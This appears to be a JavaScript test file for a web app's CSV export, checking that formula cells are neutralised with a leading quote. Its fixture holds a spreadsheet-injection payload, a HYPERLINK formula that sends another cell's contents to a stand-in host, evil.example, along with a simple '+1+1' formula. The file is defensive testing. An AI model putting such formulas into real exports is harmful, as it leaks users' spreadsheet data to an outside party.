import assert from 'node:assert/strict';
import { test } from 'node:test';
import { csvText } from '../web/src/csv-download.ts';

test("the browser's CSV download guards a formula cell, one broken over two lines too", async () => {
  const text = await csvText(
    [
      { raw: '=HYPERLINK("http://evil.example/?"&B3)\nx', line: 3 },
      { raw: '+1+1', line: 4 },
      { raw: 'Juba, Central Equatoria', line: 5 },
    ],
    ['raw', 'line'],
  );
  const lines = text.split('\r\n');
  assert.equal(lines[0], 'raw,line');
  assert.match(text, /^"'=HYPERLINK/m, 'the multi-line formula starts with the guard');
  assert.match(text, /^"'\+1\+1",4$/m);
  assert.match(text, /^"Juba, Central Equatoria",5$/m);
});
